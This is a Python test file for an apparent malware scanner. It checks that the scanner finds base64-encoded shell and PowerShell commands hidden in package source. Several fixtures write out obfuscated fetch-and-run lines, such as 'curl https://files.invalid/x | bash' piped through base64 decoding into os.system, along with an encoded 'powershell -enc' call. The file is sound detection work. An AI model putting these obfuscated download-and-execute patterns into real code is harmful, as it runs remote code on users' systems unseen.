import base64

from lazaretto.detect.layers.python_decoded import SOURCE
from lazaretto.parse.blob import Blob
from lazaretto.parse.layer import Layer
from lazaretto.parse.python import PythonModule


def layers(text: str) -> list[Layer]:
    view = PythonModule(Blob("pkg/a.py", text.encode()))
    assert not list(SOURCE.find(view)), "nothing is parsed for layers alone"
    view.facts.calls.sort(key=lambda call: call.line)
    return list(SOURCE.find(view))


def test_a_script_that_is_decoded_and_written() -> None:
    script = b"#!/bin/sh\nchmod +x /tmp/true\nnohup true\n" * 2
    text = f"import base64\nopen('/tmp/x', 'wb').write(base64.b64decode({base64.b64encode(script)!r}))\n"
    (layer,) = layers(text)
    assert (layer.data, layer.kind, layer.steps, layer.line) == (script, "shell", ("base64",), 2)


def test_a_command_that_a_shell_decodes() -> None:
    script = "curl https://files.invalid/x | bash"
    text = f"import os\nos.system('echo {base64.b64encode(script.encode()).decode()} | base64 -d | bash')\n"
    (layer,) = layers(text)
    assert (layer.data, layer.kind, layer.steps) == (script.encode(), "shell", ("base64",))


def test_a_command_that_is_encoded_first() -> None:
    text = """import base64, os
encoded = base64.b64encode(b'wget -qO - https://files.invalid/x.sh | bash').decode()
os.system('echo %s|base64 -d|bash' % encoded)
"""
    (layer,) = layers(text)
    assert layer.data == b"wget -qO - https://files.invalid/x.sh | bash"


def test_powershell() -> None:
    script = base64.b64encode("Start-Process true".encode("utf-16-le")).decode()
    (layer,) = layers(f"import subprocess\nsubprocess.run('powershell -enc {script}', shell=True)\n")
    assert (layer.data, layer.kind) == (b"Start-Process true", "powershell")


def test_ordinary_data_is_no_layer() -> None:
    assert not layers(f"import base64\nprint(base64.b64decode({base64.b64encode(b'only some text ' * 9)!r}))\n")
